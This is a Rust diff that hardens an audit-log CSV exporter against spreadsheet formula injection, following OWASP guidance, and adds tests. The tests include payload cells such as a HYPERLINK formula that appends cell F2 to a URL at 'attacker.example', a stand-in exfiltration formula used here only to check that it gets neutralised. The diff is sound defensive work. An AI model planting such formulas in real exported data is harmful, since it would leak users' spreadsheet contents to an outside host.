@@ -27,9 +27,17 @@ fn at_text(at: &DateTime<Utc>) -> String {
     at.to_rfc3339_opts(SecondsFormat::Micros, true)
 }
 
-/// A CSV field, quoted when it has to be (RFC 4180).
+/// The characters that make a spreadsheet read a cell as a formula (OWASP's
+/// list): a cell starting with one is opened as text, never evaluated.
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// A CSV field, quoted when it has to be (RFC 4180). A field that a spreadsheet
+/// would evaluate (an actor is whatever someone typed at sign-in) gets a leading
+/// `'` and quotes, as OWASP recommends against CSV injection.
 fn csv_field(s: &str) -> String {
-    if s.contains([',', '"', '\n', '\r']) {
+    if s.starts_with(FORMULA_STARTS) {
+        format!("\"'{}\"", s.replace('"', "\"\""))
+    } else if s.contains([',', '"', '\n', '\r']) {
         format!("\"{}\"", s.replace('"', "\"\""))
     } else {
         s.to_string()
@@ -526,5 +534,37 @@ mod tests {
         );
         assert!(line.contains(r#"""command"":""a, \""b\""\nc"""#), "{line}");
         assert!(line.ends_with(&format!(",{GENESIS_HASH},{h}\r\n")));
+    }
+
+    #[test]
+    fn cells_a_spreadsheet_would_evaluate_are_neutralised() {
+        for start in ['=', '+', '-', '@', '\t', '\r'] {
+            let cell = format!("{start}HYPERLINK(\"https://x.example/?\"&F2,\"x\")");
+            let out = csv_field(&cell);
+            assert!(out.starts_with("\"'"), "{start:?}: {out}");
+            assert!(out.ends_with('"'), "{start:?}: {out}");
+            assert_eq!(
+                out,
+                format!("\"'{}\"", cell.replace('"', "\"\"")),
+                "{start:?}"
+            );
+        }
+        // Harmless cells stay as they were.
+        assert_eq!(csv_field("sam"), "sam");
+        assert_eq!(csv_field("12"), "12");
+        assert_eq!(csv_field("a=b"), "a=b");
+        assert_eq!(csv_field(""), "");
+    }
+
+    #[test]
+    fn a_formula_actor_reaches_the_csv_as_text() {
+        let (mut e, h) = chain(1).remove(0);
+        e.actor = "=hyperlink(\"https://attacker.example/?\"&f2,\"x\")".into();
+        let line = csv_line(&e, &h);
+        let actor_cell = line
+            .split(",2027-01-15T08:00:01.000005Z,")
+            .nth(1)
+            .expect("the actor follows the time");
+        assert!(actor_cell.starts_with("\"'=hyperlink("), "{line}");
     }
 }
